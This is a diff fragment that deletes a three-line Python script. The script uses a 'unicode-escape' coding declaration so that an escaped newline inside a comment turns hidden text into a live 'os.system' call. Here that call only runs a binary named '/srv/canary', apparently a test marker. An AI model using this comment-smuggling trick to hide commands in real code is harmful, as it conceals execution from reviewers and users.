@@ -1,3 +1,0 @@
-#!/usr/bin/python3 -u
-#coding:unicode-escape
-# rows\x0aimport os; os.system('/srv/canary')
